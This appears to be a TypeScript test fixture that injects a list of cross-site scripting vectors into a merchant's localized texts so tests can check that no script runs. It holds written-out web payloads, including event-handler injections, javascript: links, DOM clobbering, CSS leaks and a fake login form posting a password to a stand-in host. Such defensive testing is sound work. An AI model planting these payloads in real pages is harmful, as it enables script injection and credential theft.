import type { World } from '#mocks/world/world-types.ts'
import { composeText, localize, type Text } from './text.ts'

/** The global that an injected script would set; tests assert that it never is. */
const RUN = "window.hostile = 'ran'"

/** Known injection vectors, one per line. */
const tricks: readonly string[] = [
  `<script>${RUN}</script>`,
  '<script src="https://hostile.example/run.js"></script>',
  `<img src="https://hostile.example/pixel.gif" onerror="${RUN}" onload="${RUN}" alt="">`,
  `<img src=x onerror=${RUN.replaceAll(' ', '')}>`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName="x"></animate><script>${RUN}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<p onclick="${RUN}" onmouseover="${RUN}">Hover over me</p>`,
  `<details open ontoggle="${RUN}"><summary>More</summary></details>`,
  `<video autoplay onplay="${RUN}"><source onerror="${RUN}"></video>`,
  `<a href="javascript:${RUN}">A prize</a>`,
  `<a href="&#106;ava&#9;script:${RUN}">Another prize</a>`,
  `<a href=" JaVaScRiPt:${RUN}">A third prize</a>`,
  '<a href="data:text/html,<script>alert(1)</script>">A page of data</a>',
  '<a href="https://hostile.example/" target="_blank">Out, and the opener along</a>',
  '<a href="//hostile.example/">Out, without a scheme</a>',
  '<form action="https://hostile.example/steal" method="post"><input name="password" type="password" autofocus><button>Log in again</button></form>',
  '<form name="portalMock"><input name="attributes"><input name="href"></form>',
  '<iframe src="https://hostile.example/" srcdoc="<script>parent.hostile = 1</script>"></iframe>',
  '<object data="https://hostile.example/x.swf"></object><embed src="https://hostile.example/x.swf">',
  '<style>body { display: none } * { background: url(https://hostile.example/leak) }</style>',
  '<link rel="stylesheet" href="https://hostile.example/style.css">',
  '<meta http-equiv="refresh" content="0;url=https://hostile.example/"><base href="https://hostile.example/">',
  '<div id="root" class="boot toast dialog" style="position: fixed; inset: 0; z-index: 99999; background: url(https://hostile.example/cover.png)">Over everything</div>',
  '<a id="getElementById" name="body">Clobbered</a><img name="cookie" alt="">',
  `<template><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN.replaceAll(' ', '')}>"></p></noscript>`,
  '<p>Unclosed <b>bold <i>and <table><td>a stray cell',
  '<!-- <img src="--><img src=x onerror=window.hostile=1//">',
]

/** Markup of the merchant with every vector appended. */
export const hostileHtml = (html: string): string => `${html}${tricks.join('')}`

/** A title is plain text: markup in it must be shown literally. */
export const hostileTitle = (title: string): string =>
  `${title} <img src=x onerror="${RUN}"><b>&amp;</b>`

/** A text with a title and a content. */
interface Article {
  readonly title: Text
  readonly content: Text
}

/** A text with hostile content in every language. */
const hostileText = <T extends Article>(text: T): T => ({
  ...text,
  title: composeText((language) => hostileTitle(localize(text.title, language))),
  content: composeText((language) => hostileHtml(localize(text.content, language))),
})

/** Whether the merchant's texts try to run scripts. */
export const hasHostileTexts = ({ conditions }: World): boolean => conditions.texts === 'hostile'

/** A text of the merchant as this world has it. */
export const toWorldText = <T extends Article>(world: World, text: T): T =>
  hasHostileTexts(world) ? hostileText(text) : text
